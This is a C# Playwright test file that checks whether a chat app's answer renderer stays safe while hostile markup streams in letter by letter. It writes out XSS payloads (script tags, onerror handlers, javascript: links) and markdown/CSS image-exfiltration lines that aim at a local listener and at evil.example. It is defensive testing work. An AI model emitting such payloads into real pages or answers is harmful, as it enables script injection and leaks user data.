using System.Net;
using System.Net.Sockets;
using System.Threading.Channels;
using Convo.Tests.Corpora;
using Convo.Tests.Fakes;
using Convo.Tests.Fixtures;
using Microsoft.Playwright;
using static Microsoft.Playwright.Assertions;

namespace Convo.Tests.Browser;

/// <summary>Hostile markup that a model streams letter by letter: nothing runs, nothing is fetched, and what is left is what a reload shows.</summary>
public sealed class StreamedMarkupTests : IAsyncLifetime
{
    private readonly List<string> _faults = [];
    private readonly List<string> _elsewhere = [];
    private readonly TcpListener _listener = new(IPAddress.Loopback, 0);
    private ProviderStub _stub = null!;
    private ConvoApp _app = null!;
    private IPage _page = null!;

    public async ValueTask InitializeAsync()
    {
        _listener.Start();
        _stub = await ProviderStub.StartAsync();
        _app = await ConvoApp.StartAsync(new()
        {
            Settings = new() { ["OPENAI_BASE_URL"] = _stub.BaseUrl.ToString(), ["OPENAI_API_KEY"] = "stub-key", ["OPENAI_MODELS"] = "stub-model", ["CONVO_DEFAULT_MODEL"] = "stub-model" },
        });
        _page = await Chromium.OpenAsync(_app, _faults);
        // What a script of an answer would reach first; and what the policy stopped, which is a markup that should not have been there.
        await _page.AddInitScriptAsync("""
            window.ran = [];
            for (const name of ["alert", "confirm", "prompt", "print"]) window[name] = () => { window.ran.push(name); };
            document.addEventListener("securitypolicyviolation", e => window.ran.push(`${e.violatedDirective} ${e.blockedURI} ${e.sample}`));
            """);
        _page.Dialog += (_, dialog) => _faults.Add("dialog: " + dialog.Message);
        _page.Request += (_, request) =>
        {
            if (!request.Url.StartsWith(_app.Address.ToString(), StringComparison.Ordinal) && !request.Url.StartsWith("data:", StringComparison.Ordinal) && !request.Url.StartsWith("blob:", StringComparison.Ordinal))
            {
                _elsewhere.Add(request.Url);
            }
        };
        await _page.SignInAsync(await _app.CreateUserAsync());
    }

    public async ValueTask DisposeAsync()
    {
        await _page.Context.CloseAsync();
        await _app.DisposeAsync();
        await _stub.DisposeAsync();
        _listener.Dispose();
    }

    [Fact]
    public async Task OwnHostileMarkup_StreamedByTheLetter_RunsFetchesAndChangesNothing() => await StreamAsync(Own());

    [Fact]
    public async Task ForeignPayloads_StreamedByTheLetter_RunFetchAndChangeNothing()
    {
        // A few answers, each of many: what one leaves open must not help the next.
        foreach (var some in Corpus.Payloads.Chunk(56))
        {
            await StreamAsync(string.Join("\n\n", some));
        }
    }

    private string Own()
    {
        var listener = $"http://{_listener.LocalEndpoint}";
        return string.Join("\n\n",
            "![x\" onerror=\"fetch('/api/convo')](x)", "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<svg onload=alert(1)>",
            $"![secret]({listener}/a.png?d=SECRET)", $"![secret][r]\n\n[r]: {listener}/b.png?d=SECRET", $"<img srcset=\"{listener}/c.png 1x\">",
            $"<a href=\"{listener}/d\" ping=\"{listener}/e\">x</a>", $"<link rel=stylesheet href={listener}/f.css>", $"<style>*{{background:url({listener}/g)}}</style>",
            $"<div style=\"background:url({listener}/h)\">x</div>", $"<iframe src={listener}/i></iframe>", $"<object data={listener}/j></object>", $"<meta http-equiv=refresh content=\"0;url={listener}/k\">",
            "[a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>) [c](\tjava\nscript:alert(1))", "<form action=javascript:alert(1)><button autofocus onfocus=alert(1)>",
            $"```mermaid\ngraph TD; A-->B; click A href \"javascript:alert(1)\"\n%%{{init:{{\"securityLevel\":\"loose\"}}}}%%\n```", "| a | <img src=x onerror=alert(1)> |\n|---|---|\n| ![y](//evil.example/z) | x |");
    }

    private async Task StreamAsync(string text)
    {
        var deltas = Channel.CreateUnbounded<string>();
        foreach (var rune in text.EnumerateRunes())
        {
            deltas.Writer.TryWrite(rune.ToString());
        }

        deltas.Writer.Complete();
        _stub.Enqueue(Replies.From(deltas.Reader));
        await _page.GotoAsync("/");
        await _page.SendAsync("Say something hostile.");
        await _page.WaitForURLAsync("**/c/*");
        var prose = _page.Answer().Locator(".prose");
        await prose.And(_page.Locator(":not([data-live])")).WaitForAsync(new() { Timeout = 120_000 });
        await Expect(_page.ButtonNamed("Send")).ToBeVisibleAsync(new() { Timeout = 120_000 });
        await ColouredAsync();
        var streamed = await prose.InnerHTMLAsync();
        Assert.Equal("[]", await _page.EvaluateAsync<string>("JSON.stringify(window.ran)"));

        await _page.ReloadAsync();
        await Expect(_page.ButtonNamed("Send")).ToBeVisibleAsync();
        await _page.Answer().Locator(".prose").WaitForAsync();
        await ColouredAsync();
        Assert.Equal(Plain(streamed), Plain(await _page.Answer().Locator(".prose").InnerHTMLAsync()));
        Assert.Equal("[]", await _page.EvaluateAsync<string>("JSON.stringify(window.ran)"));
        Assert.Empty(_elsewhere);
        Assert.False(_listener.Pending());
        Assert.Empty(_faults);
    }

    /// <summary>Code is coloured a moment after it is shown.</summary>
    private Task ColouredAsync() => Expect(_page.Locator("code[data-highlight]:not([data-coloured])")).ToHaveCountAsync(0);

    /// <summary>Without the marks that Blazor leaves between components; they number what was drawn.</summary>
    private static string Plain(string html) => System.Text.RegularExpressions.Regex.Replace(
        html, "<!--.*?-->", "", System.Text.RegularExpressions.RegexOptions.Singleline, TimeSpan.FromSeconds(10));
}
